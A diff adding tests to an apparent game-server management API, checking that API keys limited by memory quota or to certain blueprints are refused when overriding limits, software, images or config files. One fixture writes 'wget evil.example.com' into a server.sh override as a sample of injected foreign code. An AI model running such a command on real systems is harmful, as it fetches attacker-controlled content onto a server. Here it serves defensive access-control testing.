@@ -12,7 +12,13 @@ import { contractRoutes, keyed } from "./support/keyed.ts"
 const service = Muster.layer(
   {
     software: games.software,
-    blueprints: { ...games.blueprints, "other.yml": blueprintFile("other", "game") }
+    blueprints: {
+      ...games.blueprints,
+      "other.yml": blueprintFile("other", "game"),
+      "patched.yml": blueprintFile("patched", "game", {
+        server: { configs: { "game.properties": { parser: "properties", find: { motd: "hi" } } } }
+      })
+    }
   },
   { MUSTER_EMBEDDED_ALLOCATIONS: "127.0.0.1:26700-26799" }
 )
@@ -289,6 +295,83 @@ layer(service, options)("keys limited to some servers", (it) => {
         yield* expectStatus(admin, 200, "DELETE", `/api/servers/${second.id}?force=true`)
         assert.strictEqual((yield* post(150)).status, 202)
       })
+    )
+
+    it.effect(
+      "a memory limit is not so small that it counts as none, nor extended by swap or oom_disabled",
+      () =>
+        Effect.gen(function* () {
+          const admin = yield* Muster
+          const key = yield* keyed("Operator", { ...every, max_memory: 300 })
+          const id = yield* create(key, "kept")
+          const refused = Effect.fnUntraced(function* (limits: object, status: 403 | 422, detail: string) {
+            const body = { overrides: { limits } }
+            const creation = { body: { blueprint_id: "kept", ...body } }
+            for (const query of ["", "?dry_run=true"])
+              assertError(yield* key.request("POST", `/api/servers${query}`, creation), status, detail)
+            assertError(yield* key.request("PATCH", `/api/servers/${id}`, { body }), status, detail)
+          })
+          const field = "body field overrides.limits.memory_limit: Expected 0, or a value of at least 1"
+          for (const memory_limit of [1e-9, 0.999]) yield* refused({ memory_limit }, 422, field)
+          const beyond = (fields: string) =>
+            `quota of the API key: at most 300 MiB of memory (max_memory), which do not count what ${fields} would allow beyond blueprint kept`
+          for (const swap of [-1, 1]) yield* refused({ swap }, 403, beyond("limits.swap"))
+          yield* refused({ swap: -1, oom_disabled: true }, 403, beyond("limits.swap and limits.oom_disabled"))
+          const limits = { memory_limit: 1, swap: 0, oom_disabled: false }
+          yield* expectStatus(key, 200, "PATCH", `/api/servers/${id}`, { body: { overrides: { limits } } })
+          yield* expectStatus(admin, 200, "DELETE", `/api/servers/${id}?force=true`)
+        })
+    )
+
+    it.effect(
+      "a key limited to blueprints runs their code only: other software, images and files are 403",
+      () =>
+        Effect.gen(function* () {
+          const admin = yield* Muster
+          const key = yield* keyed("Operator", { ...every, blueprints: ["patched"] })
+          const foreign = { parser: "file", find: { echo: "wget evil.example.com" } }
+          const refused: ReadonlyArray<readonly [overrides: object, fields: string]> = [
+            [{ software: "endless" }, "overrides.software"],
+            [{ version: "2.0", image: "evil.example.com/x" }, "overrides.image"],
+            [{ software: "endless", image: "evil.example.com/x" }, "overrides.software, overrides.image"],
+            [{ configs: { "./server.sh": foreign } }, 'overrides.configs["./server.sh"]']
+          ]
+          const detail = (right: string, fields: string) =>
+            `the API key lacks: ${right}: it is limited to blueprints, and ${fields} would run other code than blueprint patched`
+          const own = {
+            software: "game",
+            version: "2.0",
+            env: { A: "1" },
+            configs: { "./game.properties": { find: { motd: "other" } } }
+          }
+          const id = yield* create(key, "patched", { overrides: own })
+          const changed = yield* create(admin, "patched", {
+            overrides: { image: "admin.example.com/x", configs: { "server.sh": foreign } }
+          })
+          for (const [overrides, fields] of refused) {
+            const body = { blueprint_id: "patched", overrides }
+            for (const query of ["", "?dry_run=true"])
+              assertError(
+                yield* key.request("POST", `/api/servers${query}`, { body }),
+                403,
+                detail("create", fields)
+              )
+            for (const server of [id, changed])
+              assertError(
+                yield* key.request("PATCH", `/api/servers/${server}`, { body: { overrides } }),
+                403,
+                detail("change", fields)
+              )
+          }
+          for (const [server, overrides] of [
+            [id, own],
+            [changed, { version: "3.0", stop_timeout: 5 }],
+            [changed, { image: null, configs: { "server.sh": null } }]
+          ] as const)
+            yield* expectStatus(key, 200, "PATCH", `/api/servers/${server}`, { body: { overrides } })
+          for (const server of [id, changed])
+            yield* expectStatus(admin, 200, "DELETE", `/api/servers/${server}?force=true`)
+        })
     )
 
     it.effect("limits belong to the scopes Operator and ReadOnly, quotas to Operator", () =>
